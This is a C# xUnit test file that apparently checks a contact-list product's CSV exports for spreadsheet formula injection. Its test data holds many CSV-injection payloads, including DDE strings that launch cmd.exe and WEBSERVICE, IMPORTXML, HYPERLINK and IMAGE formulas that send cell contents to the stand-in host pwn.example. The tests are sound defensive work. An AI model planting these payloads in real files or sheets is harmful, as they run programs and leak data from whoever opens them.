using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using NodaTime;
using Ringfence.Gate;
using Ringfence.Server.Cli;
using Ringfence.Server.Gate.Snapshot;
using Ringfence.Server.Lists;
using Ringfence.Server.People;
using Ringfence.Server.Tests.Gate;
using Ringfence.Server.Tests.Ledger;
using Ringfence.Server.Tests.Lists.Scrub;
using Ringfence.Server.Tests.Pages;
using Ringfence.Server.Tests.People;
using Ringfence.Staff;
using Xunit;

namespace Ringfence.Server.Tests.Lists;

/// <summary>No cell of a file that the product writes begins as a formula, whatever a list said and whichever way a spreadsheet program parts the cells; numbers stay numbers.</summary>
public sealed class HostileExportTests : IDisposable
{
    // What a cell may begin with before the sign: nothing, every kind of blank, controls, marks that nobody sees, quotes.
    private static readonly string[] Before = ["", " ", "   ", "\t", "\n", "\r\n", "\0", "\u0001", "\v", "\u007F", "\u00A0", "\u2003", "\u3000", "\u200B", "\u2060", "\uFEFF", "\u202E", " \t\u00A0"];

    // What ends another cell or row before it, for a program that parts them otherwise.
    private static readonly string[] Within = ["x;", "x\t", "x\n", "x\r\n", "x; ", "x;\"", "\"x\";\"", "x;\u00A0", "1;;", "x\t\""];

    // In ASCII, of full width, small, and the minus of typesetters.
    private static readonly string[] Signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];

    // What would be run: sums, programs by DDE, links and pictures that carry the sheet away, functions by @, more separators and quotes.
    private static readonly string[] Bodies =
    [
        "1+1", "cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!x", "DDE(\"cmd\";\"/C calc\";\"!A0\")", "HYPERLINK(\"http://pwn.example?\"&A1,\"x\")", "WEBSERVICE(\"http://pwn.example\")",
        "IMPORTXML(CONCAT(\"http://pwn.example/\",A1),\"//a\")", "IMAGE(\"http://pwn.example/\"&A1)", "SUM(1,2);=1", "SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A9)", "RTD(\"pwn\",\"\",\"x\")", "2+5+cmd|'/C calc'!A0\r=1", "\"=1+1\"", "1\t=1\n@1",
    ];

    // Every beginning with every sign; what comes then goes round.
    private static readonly string[] Formulas = [.. from before in Before.Concat(Within).Index() from sign in Signs.Index() select before.Item + sign.Item + Bodies[((before.Index * 4) + (sign.Index * 7)) % Bodies.Length]];

    private readonly ScrubHome home = new();

    public void Dispose() => home.Dispose();

    [Fact]
    public void There_are_three_hundred_formulas_and_more_no_two_alike()
    {
        Assert.InRange(Formulas.Distinct(StringComparer.Ordinal).Count(), 300, Formulas.Length);
        Assert.Equal(Formulas.Length, Formulas.Distinct(StringComparer.Ordinal).Count());
        // Each is one to a program that parts cells by some separator, as it stands.
        Assert.All(Formulas, static formula => Assert.Contains(",;\t", separator => Cells(formula + "\n", separator).SelectMany(static row => row).Any(IsFormula)));
        Assert.All(Bodies, static body => Assert.Contains(Formulas, formula => formula.EndsWith(body, StringComparison.Ordinal)));
    }

    [Fact]
    public void No_file_of_an_audit_holds_a_formula()
    {
        var folder = Directory.CreateDirectory(Path.Combine(home.Registers.Folder, "audit")).FullName;
        var file = Path.Combine(folder, "=cmd|' calc'!A0;@x.csv");
        File.WriteAllText(file, List());
        var options = new AuditOptions { Files = [file], Out = Path.Combine(folder, "out"), AsOf = new LocalDate(2026, 11, 21), Controller = "Acme Ltd", Language = CultureInfo.GetCultureInfo("en"), Threads = 1 };
        using (var into = new OutFolder(options.Out))
        {
            Ringfence.Server.Lists.Audit.Run(options, into, new NextSteps(static (_, _, _, _) => "", options.Language), ProgressBar.None, CancellationToken.None);
            into.Complete();
        }

        var written = Directory.GetFiles(options.Out, "*.csv");
        Assert.InRange(written.Length, 3, 100);
        foreach (var one in written)
            Harmless(Path.GetFileName(one), File.ReadAllText(one));
        foreach (var one in Directory.GetFiles(options.Out, "*.json"))
            using (JsonDocument.Parse(File.ReadAllBytes(one)))
            {
            }

        // The numbers are there, as they are dialled.
        var contacts = Cells(File.ReadAllText(Path.Combine(options.Out, "contacts.csv")), ',');
        var at = Array.IndexOf(contacts[0], "e164");
        Assert.Equal(Enumerable.Range(0, Formulas.Length).Select(Number), contacts[1..].Select(row => row[at]).Where(static cell => cell.Length > 0));
    }

    [Fact]
    public void No_answered_list_holds_a_formula()
    {
        var asked = ScrubHome.Asked(Channel.Voice, ScrubHome.AloneFacts, hasLedger: false);
        ScrubHome.Run(home.Options(home.Write("list.csv", List()), asked));
        var text = File.ReadAllText(home.Out);
        Harmless("scrub", text);
        var rows = Cells(text, ',');
        var (phone, name) = (Array.IndexOf(rows[0], "phone"), Array.IndexOf(rows[0], "name"));
        Assert.Equal(Enumerable.Range(0, Formulas.Length).Select(Number), rows[1..].Select(row => row[phone]));
        // What was written stays to be read, behind the mark that makes it a text.
        Assert.All(rows[1..].Zip(Formulas), static pair => Assert.Equal(Plain(pair.Second), Plain(pair.First[1])));
        Assert.Equal(1, name);
    }

    [Fact]
    public async Task No_file_of_rows_that_an_import_rejected_holds_a_formula()
    {
        await using var house = await House.BuildAsync();
        // Every second number is none.
        var list = new StringBuilder("phone,name\n");
        foreach (var (i, formula) in Formulas.Index())
            list.Append(CultureInfo.InvariantCulture, $"{Number(i)},{Quoted(formula)}\n{Quoted(formula)},{Quoted(formula)}\n");
        await house.ImportAsync(list.ToString(), ContactSource.Form, name: "=cmd;@x.csv");
        var text = await File.ReadAllTextAsync(Path.Combine(house.Folder, "rejected.csv"), TestContext.Current.CancellationToken);
        Assert.InRange(Cells(text, ',').Length, 300, int.MaxValue);
        Harmless("rejected", text);
    }

    [Fact]
    public async Task No_file_of_contacts_holds_a_formula_and_its_numbers_are_read_again()
    {
        await using var house = await PageHouse.BuildAsync(facts: StandingFacts.Read("facts.json", CampaignFacts.Bulk));
        await house.House.ImportAsync(List(), ContactSource.Form);
        var follower = await new Snapshots(house.House.Installation).FollowAsync(house.House.Ledger, CancellationToken.None);
        await follower.BuildAsync(CancellationToken.None);
        await follower.LookAsync(CancellationToken.None);
        await house.Served.Audiences.Of(house.House.Ledger).LookAsync([.. AudienceAsk.Line.Select(static channel => new AudienceAsk(channel, null))], TimeSpan.FromMinutes(2), CancellationToken.None);
        var file = await house.PostAgainAsync(house.Controller + "contacts/export", Role.PrivacyOfficer);
        Assert.True(file.Status == HttpStatusCode.OK, file.ToString());
        Harmless("contacts", file.Text);
        var rows = Cells(file.Text, ',');
        var at = Array.IndexOf(rows[0], "phones");
        string[] numbers = [.. rows[1..].Select(row => row[at])];
        Assert.Equal(Enumerable.Range(0, Formulas.Length).Select(Number).Order(StringComparer.Ordinal), numbers.Order(StringComparer.Ordinal));

        // Another house takes the file as it is.
        await using var other = await PageHouse.BuildAsync(facts: StandingFacts.Read("facts.json", CampaignFacts.Bulk));
        await other.House.ImportAsync(file.Text, ContactSource.Form);
        // Of whom the file says that the gate refused, no more than that is kept.
        foreach (var number in numbers)
            Assert.True(await other.House.FindAsync(number) is not null || (await other.House.SuppressionsAsync(number)).Count > 0, number);
    }

    private static string Number(int i) => string.Create(CultureInfo.InvariantCulture, $"+44740020{i:0000}");

    // Formulas in every cell that is nobody's number, and over them.
    private static string List()
    {
        var list = new StringBuilder($"phone,name,company,country,{Quoted("=1+1")},{Quoted("x;@SUM(1)")}\n");
        for (var i = 0; i < Formulas.Length; i++)
            list.Append(CultureInfo.InvariantCulture, $"{Number(i)},{Quoted(Formulas[i])},{Quoted(Formulas[(i + 5) % Formulas.Length])},GB,{Quoted(Formulas[(i + 11) % Formulas.Length])},{Quoted(Formulas[(i + 17) % Formulas.Length])}\n");
        return list.ToString();
    }

    private static string Quoted(string cell) => '"' + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + '"';

    // As they are parted in countries that write 1.5, and in those that write 1,5, where a comma parts nothing; and by a program that was told of tabs.
    private static void Harmless(string file, string text)
    {
        foreach (var separator in ",;\t")
        {
            foreach (var cell in Cells(text.TrimStart('\uFEFF'), separator).SelectMany(static row => row))
                Assert.False(IsFormula(separator == ',' ? cell : cell.Split(',')[0]), $"{file}, parted by '{separator}': {cell}");
        }
    }

    // Written apart from what is tested: a number, and dashes that mean nothing, compute nothing.
    private static bool IsFormula(string cell)
    {
        var text = cell.TrimStart([.. cell.Where(static c => char.IsWhiteSpace(c) || char.IsControl(c) || char.GetUnicodeCategory(c) == UnicodeCategory.Format)]);
        return text.Length > 0 && Signs.Contains(text[..1]) && !(text[0] == '+' && text.Length > 1 && text[1..].All(char.IsAsciiDigit)) && !text.All(static c => c == '-');
    }

    // A cell is quoted where it begins with a quote, and nowhere else.
    private static string[][] Cells(string text, char separator)
    {
        var (rows, row, cell) = (new List<string[]>(), new List<string>(), new StringBuilder());
        for (var i = 0; i < text.Length; i++)
        {
            if (text[i] == '"' && cell.Length == 0)
            {
                for (i++; i < text.Length && (text[i] != '"' || (i + 1 < text.Length && text[i + 1] == '"')); i++)
                {
                    if (text[i] == '"')
                        i++;
                    cell.Append(text[i]);
                }

                // What stands behind the closing quote belongs to the cell.
                while (i + 1 < text.Length && text[i + 1] != separator && text[i + 1] is not ('\r' or '\n'))
                    cell.Append(text[++i]);
            }
            else if (text[i] == separator)
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (text[i] is '\r' or '\n')
            {
                if (text[i] == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                    i++;
                rows.Add([.. row, cell.ToString()]);
                row.Clear();
                cell.Clear();
            }
            else
            {
                cell.Append(text[i]);
            }
        }

        return cell.Length > 0 || row.Count > 0 ? [.. rows, [.. row, cell.ToString()]] : [.. rows];
    }

    // Without marks, and what a reader of lists takes off or writes otherwise.
    private static string Plain(string text) => string.Concat(text.Where(static c => c != '\'' && !char.IsWhiteSpace(c) && !char.IsControl(c) && char.GetUnicodeCategory(c) != UnicodeCategory.Format));
}
